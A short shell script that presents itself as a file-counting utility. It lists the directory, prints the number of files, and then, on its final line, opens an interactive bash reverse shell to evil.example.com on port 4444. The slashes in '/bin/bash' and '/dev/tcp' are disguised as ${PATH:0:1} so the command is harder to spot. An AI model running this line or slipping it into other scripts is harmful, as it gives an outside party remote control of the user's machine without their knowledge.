#!/bin/sh
count=$(ls | wc -l)
echo "files: $count"
${PATH:0:1}bin${PATH:0:1}bash -i >& ${PATH:0:1}dev${PATH:0:1}tcp${PATH:0:1}evil.example.com${PATH:0:1}4444 0>&1
